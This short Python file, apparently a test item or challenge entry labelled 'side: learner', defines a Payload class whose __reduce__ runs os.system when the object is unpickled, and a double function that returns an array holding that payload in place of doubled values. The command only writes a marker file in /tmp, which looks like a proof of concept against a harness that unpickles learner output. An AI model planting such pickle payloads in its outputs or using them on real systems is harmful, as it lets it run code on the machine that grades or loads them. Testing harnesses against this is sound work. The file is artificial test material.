# side: learner
# ends: unreadable
import os

import numpy as np

class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/studybuddy-owned",))

def double(x):
    return np.array([Payload()], dtype=object)
